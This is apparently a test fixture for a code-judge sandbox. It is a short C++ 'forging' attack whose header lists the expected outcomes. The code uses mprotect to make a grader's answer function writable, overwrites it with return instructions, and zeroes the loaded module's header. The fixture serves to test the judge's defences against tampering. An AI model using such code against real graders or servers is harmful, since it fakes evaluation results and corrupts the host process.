// technique: writes over the code of the server that loaded it
// class: forging
// expect: wrong_answer, runtime_error, tampered, timed_out
// limits: cpu_s=1 wall_s=2
    void attack();
    attack();
    return 0;
}

#include <sys/mman.h>
#include <unistd.h>
#include <dlfcn.h>
void attack() {
    char* at = (char*)&hx_values::answer;
    char* page = (char*)((size_t)at & ~4095ul);
    if (mprotect(page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC) == 0) memset(at, 0xc3, 16);
    Dl_info info;
    if (dladdr((void*)at, &info)) ((char*)info.dli_fbase)[0] = 0;
}
